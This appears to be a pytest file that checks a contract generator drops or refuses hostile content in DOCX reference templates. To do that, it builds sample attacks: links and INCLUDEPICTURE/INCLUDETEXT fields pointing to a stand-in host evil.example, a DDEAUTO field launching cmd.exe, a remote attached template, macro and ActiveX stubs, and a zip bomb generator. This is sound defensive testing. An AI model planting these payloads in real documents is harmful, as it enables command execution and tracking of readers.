"""A hostile templates/<t>/docx/reference.docx: what fetches or runs is dropped (with a warning) or refused.

The hostile documents are built here from the default reference document with zipfile, so each
test shows exactly what it adds: an external image link, a remote attached template, INCLUDEPICTURE,
INCLUDETEXT and DDEAUTO fields (simple and complex), a mail-merge source, macros, ActiveX, a zip bomb.
"""

from __future__ import annotations

import io
import logging
import re
import shutil
import zipfile

import pytest

from contractgen.errors import TemplateError
from contractgen.writers.docx.reference import build_reference, reference_path
from contractgen.writers.docx.styles import load_style_sheet
from contractgen.writers.docx.writer import render_docx
from tests.helpers import TEMPLATE
from tests.writers.sample_document import sample_document

EVIL = "evil.example"
EXTERNAL_IMAGE = (
    f'<Relationship Id="rIdEvil1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    f'relationships/image" Target="http://{EVIL}/beacon.png" TargetMode="External"/>'
)
ATTACHED = (
    f'<Relationship Id="rIdEvil2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    f'relationships/attachedTemplate" Target="https://{EVIL}/template.dotm" TargetMode="External"/>'
)
SIMPLE_FIELDS = (
    f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/pixel.png&quot; \\d "><w:r><w:t>pic</w:t>'
    f'</w:r></w:fldSimple><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\{EVIL}\\\\share\\\\x.docx&quot; ">'
    "<w:r><w:t>included</w:t></w:r></w:fldSimple>"
)
# DDEAUTO split over two instrText runs, as Word writes long instructions
COMPLEX_FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText>'
    '</w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>harmless result</w:t>'
    '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def default_reference() -> bytes:
    return build_reference(load_style_sheet(TEMPLATE))


def rebuild(data: bytes, change) -> bytes:
    """Return a copy of a package after change(parts) edited its {name: bytes}."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return out.getvalue()


def template_with(tmp_path, data: bytes):
    folder = tmp_path / "house"
    (folder / "docx").mkdir(parents=True)
    shutil.copy(TEMPLATE / "docx" / "styles.yaml", folder / "docx" / "styles.yaml")
    reference_path(folder).write_bytes(data)
    return folder


def hostile(parts: dict[str, bytes]) -> None:
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>", EXTERNAL_IMAGE + "</Relationships>"
    ).encode()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(
        r"(<w:settings[^>]*>)",
        r'\1<w:attachedTemplate r:id="rIdEvil2"/>'
        r'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdEvil3"/>'
        r"</w:mailMerge>",
        settings,
        count=1,
    )
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships">'
        + ATTACHED
        + f'<Relationship Id="rIdEvil3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'mailMergeSource" Target="file:///{EVIL}/data.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    for name in [n for n in parts if re.fullmatch(r"word/(header|footer)\d+\.xml", n)]:
        body = parts[name].decode()
        parts[name] = body.replace("</w:p>", SIMPLE_FIELDS + COMPLEX_FIELD + "</w:p>", 1).encode()


def test_fields_links_and_attached_templates_that_fetch_or_run_are_dropped_with_a_warning(tmp_path, caplog):
    folder = template_with(tmp_path, rebuild(default_reference(), hostile))
    with caplog.at_level(logging.WARNING, logger="contractgen"):
        out = render_docx(sample_document(draft=False), folder)
    with zipfile.ZipFile(io.BytesIO(out)) as zf:
        text = b"".join(zf.read(name) for name in zf.namelist()).decode("utf-8", "replace")
    for gone in (
        EVIL,
        "INCLUDEPICTURE",
        "INCLUDETEXT",
        "DDEAUTO",
        "DDE",
        "cmd.exe",
        "attachedTemplate",
        "mailMerge",
        'TargetMode="External"',
    ):
        assert gone not in text, gone
    assert "harmless result" in text  # a dropped field's last result stays as plain text
    assert " PAGE " in text  # harmless fields of the reference document are kept
    logged = caplog.text
    for named in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "attached template", "beacon.png", "mail merge"):
        assert named in logged, named


def test_a_clean_reference_document_passes_unchanged():
    from contractgen.writers.docx.clean import clean_reference

    data = default_reference()
    assert clean_reference(data, "reference.docx") == (data, [])


@pytest.mark.parametrize(
    "what, change",
    [
        ("vbaProject", lambda p: p.update({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})),
        (
            "macroEnabled",
            lambda p: p.update(
                {
                    "[Content_Types].xml": p["[Content_Types].xml"].replace(
                        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
                    )
                }
            ),
        ),
        ("activeX", lambda p: p.update({"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"})),
    ],
)
def test_macros_and_activex_are_refused(tmp_path, what, change):
    folder = template_with(tmp_path, rebuild(default_reference(), change))
    with pytest.raises(TemplateError, match="macro|embedded"):
        render_docx(sample_document(), folder)


def zip_bomb(size: int) -> bytes:
    """Return the default reference document with word/styles.xml padded by `size` bytes of white space."""
    with zipfile.ZipFile(io.BytesIO(default_reference())) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    head, tail = parts.pop("word/styles.xml").split(b"?>", 1)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
        info = zipfile.ZipInfo("word/styles.xml", (1980, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as stream:  # compressed chunk by chunk, never held whole
            stream.write(head + b"?>")
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                stream.write(chunk)
            stream.write(tail)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_inflated(tmp_path, monkeypatch):
    bomb = zip_bomb(96 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024  # a small file ...
    with zipfile.ZipFile(io.BytesIO(bomb)) as zf:
        assert sum(i.file_size for i in zf.infolist()) > 90 * 1024 * 1024  # ... that unpacks to a lot
    folder = template_with(tmp_path, bomb)
    opened = []
    real_open = zipfile.ZipFile.open

    def spy(self, name, *args, **kwargs):
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    with pytest.raises(TemplateError, match="zip bomb"):
        render_docx(sample_document(), folder)
    assert "word/styles.xml" not in opened


def test_too_many_parts_are_refused(tmp_path):
    many = rebuild(default_reference(), lambda p: p.update({f"customXml/item{i}.xml": b"<a/>" for i in range(1200)}))
    with pytest.raises(TemplateError, match="parts"):
        render_docx(sample_document(), template_with(tmp_path, many))
